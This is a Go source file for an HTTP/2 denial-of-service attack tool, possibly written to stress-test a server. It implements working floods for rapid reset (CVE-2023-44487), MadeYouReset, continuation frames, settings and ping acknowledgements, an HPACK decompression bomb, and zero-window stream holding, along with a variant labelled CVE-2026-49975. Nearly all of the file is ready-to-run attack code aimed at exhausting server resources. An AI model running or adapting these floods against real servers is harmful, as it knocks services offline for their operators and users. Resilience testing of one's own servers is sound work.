package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flushEvery is how many steps of a flood go out in one write.
const flushEvery = 64

// wire is one HTTP/2 connection of an attacker: frames as it likes.
type wire struct {
	*http2.Framer
	conn  net.Conn
	out   *bufio.Writer
	block bytes.Buffer
	hpack *hpack.Encoder
	next  uint32 // stream
	gone  chan struct{}
	over  atomic.Bool // gone is closed, or about to be
}

// open dials, shakes hands and sends the preface. Unless deaf, what the server sends
// is read and counted.
func (a *attack) open(ctx context.Context, i int, deaf bool, s ...http2.Setting) (*wire, error) {
	c, err := a.dial(ctx, i, a.tls)
	if err != nil {
		return nil, err
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err := t.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		if ctx.Err() == nil {
			a.tally.failed.Add(1)
		}
		return nil, err
	}
	w := &wire{conn: t, out: bufio.NewWriterSize(t, 32<<10), next: 1, gone: make(chan struct{})}
	w.Framer = http2.NewFramer(w.out, bufio.NewReader(t))
	w.AllowIllegalWrites = true
	w.hpack = hpack.NewEncoder(&w.block)
	_, _ = w.out.WriteString(http2.ClientPreface)
	_ = w.WriteSettings(s...)
	if err := w.out.Flush(); err != nil {
		_ = c.Close()
		return nil, a.lost(ctx, err)
	}
	if !deaf {
		go w.listen(&a.tally) // ends with the connection
	}
	return w, nil
}

// listen reads frames until the connection ends.
func (w *wire) listen(t *tally) {
	defer close(w.gone)
	defer w.over.Store(true)
	for {
		frame, err := w.ReadFrame()
		if _, stream := err.(http2.StreamError); stream {
			continue
		}
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.RSTStreamFrame:
			t.resets.Add(1)
		case *http2.GoAwayFrame:
			t.left(f.ErrCode.String())
		}
	}
}

// request encodes a GET of path with more fields after it. The result is valid
// until the next call.
func (w *wire) request(method, path string, fields ...hpack.HeaderField) []byte {
	w.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "attack.example"},
		{Name: ":path", Value: path},
	}, fields...) {
		_ = w.hpack.WriteField(f) // into memory
	}
	return w.block.Bytes()
}

// headers opens a stream with block, in as many frames as it needs.
func (w *wire) headers(block []byte, endStream bool) (id uint32, err error) {
	const most = 16 << 10
	id = w.next
	w.next += 2
	first := block[:min(most, len(block))]
	block = block[len(first):]
	err = w.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: first, EndStream: endStream, EndHeaders: len(block) == 0,
	})
	for err == nil && len(block) > 0 {
		part := block[:min(most, len(block))]
		block = block[len(part):]
		err = w.WriteContinuation(id, len(block) == 0, part)
	}
	return id, err
}

// step writes some frames and says how many. It is the n-th on its connection.
type step func(w *wire, n int) (frames int64, err error)

// flood repeats a step as fast as the server reads, on every connection, and opens
// a new one when the server has ended one. deaf says which do not read.
func (a *attack) flood(ctx context.Context, deaf func(i int) bool, next step) {
	a.each(ctx, a.connections, false, func(i int) {
		a.again(ctx, func() error {
			w, err := a.open(ctx, i, deaf(i))
			if err != nil {
				return err
			}
			defer w.conn.Close()
			for n := 0; ; n++ {
				frames, err := next(w, n)
				if err == nil && n%flushEvery == flushEvery-1 {
					err = w.out.Flush()
				}
				if err == nil {
					err = a.count(frames)
				}
				if err == nil && (w.over.Load() || w.next >= 1<<30) {
					err = io.EOF
				}
				if err != nil {
					return a.lost(ctx, err)
				}
			}
		})
	})
}

func none(int) bool    { return false }
func other(i int) bool { return i%2 == 1 }

// rapidReset opens a stream and takes it back at once (CVE-2023-44487). A path that
// ends in "=" is a new one each time.
func rapidReset(path string) func(*attack, context.Context) {
	return func(a *attack, ctx context.Context) {
		a.flood(ctx, none, func(w *wire, n int) (int64, error) {
			p := path
			if strings.HasSuffix(path, "=") {
				p = fmt.Sprintf("%s%p-%d", path, w, n)
			}
			id, err := w.headers(w.request("GET", p), true)
			if err == nil {
				err = w.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			return 2, err
		})
	}
}

// madeYouReset opens streams and has the server reset them (CVE-2025-8671): by a
// window update of nothing, content after the end, a stream that depends on itself.
func madeYouReset(a *attack, ctx context.Context) {
	a.flood(ctx, none, func(w *wire, n int) (int64, error) {
		id, err := w.headers(w.request("GET", bigObject), true)
		if err != nil {
			return 0, err
		}
		switch n % 3 {
		case 0:
			err = w.WriteWindowUpdate(id, 0)
		case 1:
			err = w.WriteData(id, true, []byte("x"))
		case 2:
			err = w.WritePriority(id, http2.PriorityParam{StreamDep: id})
		}
		return 2, err
	})
}

// continuation never ends the fields of a request (CVE-2024-27316).
func continuation(a *attack, ctx context.Context) {
	var part bytes.Buffer
	enc := hpack.NewEncoder(&part)
	for part.Len() < 15<<10 {
		_ = enc.WriteField(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("b", 100), Sensitive: true}) // never indexed
	}
	a.flood(ctx, none, func(w *wire, n int) (int64, error) {
		if n > 0 {
			return 1, w.WriteContinuation(1, false, part.Bytes())
		}
		return 1, w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.request("GET", "/"), EndStream: true})
	})
}

// settings are to be acknowledged one by one; every other connection does not read
// the acknowledgements.
func settings(a *attack, ctx context.Context) {
	a.flood(ctx, other, func(w *wire, n int) (int64, error) {
		return 1, w.WriteSettings(
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1 + n%65535)},
			http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(n % 4096)},
		)
	})
}

// pings likewise.
func pings(a *attack, ctx context.Context) {
	a.flood(ctx, other, func(w *wire, n int) (int64, error) {
		return 1, w.WritePing(false, [8]byte{byte(n), byte(n >> 8)})
	})
}

// hpackBomb puts one large field into the server's table and refers to it by one
// byte, 60,000 times a request: 230 MB of fields in 60 kB.
func hpackBomb(a *attack, ctx context.Context) {
	const newest = 0xbe // indexed field 62, the newest of the dynamic table (RFC 7541 §6.1)
	refs := bytes.Repeat([]byte{newest}, 60_000)
	a.flood(ctx, none, func(w *wire, n int) (int64, error) {
		large := hpack.HeaderField{Name: "a", Value: strings.Repeat("b", 3900)}
		block := append(w.request("GET", "/", large), refs...)
		_, err := w.headers(block, true)
		return 1 + int64(len(block)>>14), err
	})
}

// heldStreams is how many streams a holding connection opens, below the 250 that
// perigee takes.
const heldStreams = 240

// hold opens streams that cannot be answered, since their windows are closed, on
// every connection, and holds them. Every other connection opens each window by a
// byte now and then.
func (a *attack) hold(ctx context.Context, block func(w *wire, n int) []byte) {
	a.each(ctx, a.connections, false, func(i int) {
		a.again(ctx, func() error {
			w, err := a.open(ctx, i, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return err
			}
			defer w.conn.Close()
			for n := range heldStreams {
				if _, err := w.headers(block(w, n), true); err != nil {
					return a.lost(ctx, err)
				}
				if err := a.count(1); err != nil {
					return err
				}
			}
			return a.lost(ctx, a.nudge(ctx, w, i%2 == 1))
		})
	})
}

// nudge waits for the end of the connection, and opens each window by a byte every
// second if it is told to.
func (a *attack) nudge(ctx context.Context, w *wire, drip bool) error {
	tick := time.NewTicker(dripEvery)
	defer tick.Stop()
	for {
		if err := w.out.Flush(); err != nil {
			return err
		}
		select {
		case <-tick.C:
		case <-w.gone:
			return io.EOF
		case <-ctx.Done():
			return ctx.Err()
		}
		for id := uint32(1); drip && id < w.next; id += 2 {
			if err := w.WriteWindowUpdate(id, 1); err != nil {
				return err
			}
			if err := a.count(1); err != nil {
				return err
			}
		}
	}
}

// zeroWindow asks for a large object and takes nothing of it.
func zeroWindow(a *attack, ctx context.Context) {
	a.hold(ctx, func(w *wire, _ int) []byte { return w.request("GET", bigObject) })
}

// crumbsHeld is zeroWindow with as many small fields as just pass the bound on
// bytes, each one byte on the wire (CVE-2026-49975).
func crumbsHeld(a *attack, ctx context.Context) {
	const newest, crumbs = 0xbe, 1400 // 41 bytes each by RFC 9113 §6.5.2, 57 of 64 KiB
	refs := bytes.Repeat([]byte{newest}, crumbs)
	a.hold(ctx, func(w *wire, n int) []byte {
		if n == 0 { // the last to come into the table is the newest, and nothing comes after it
			return append(w.request("GET", bigObject, hpack.HeaderField{Name: "cookie", Value: "a=b"}), refs...)
		}
		return append(w.request("GET", bigObject), refs...)
	})
}
